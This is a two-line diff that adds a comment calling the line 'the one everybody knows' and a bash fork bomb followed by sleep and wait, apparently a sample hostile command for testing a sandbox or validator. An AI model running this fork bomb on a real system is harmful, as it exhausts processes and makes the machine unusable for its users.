@@ -1,0 +1,2 @@
+# The one everybody knows.
+:() { : | : & }; :; sleep 0.3; wait
